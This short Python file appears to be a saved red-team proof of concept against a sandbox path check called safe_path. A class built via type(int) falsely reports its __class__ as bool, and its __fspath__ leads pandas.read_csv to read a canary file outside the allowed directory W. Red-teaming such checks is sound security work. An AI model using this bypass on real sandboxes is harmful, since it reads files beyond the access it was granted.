# (d) real type via type(int); object whose __class__ claims bool makes safe_path return it unchecked; its __fspath__ points outside W; driver sees result == canary line
# red team 2026-12-07, docs/redteam-2026-12-07/success_05_lying_class_bool_fspath.py.txt
import pandas as pd

T = type(int)
P = T("P", (), {"__fspath__": lambda self: "{CANARY}", "__class__": property(lambda self: bool)})
df = pd.read_csv(P(), header=None)
result = df.iloc[0, 0]
print(result)
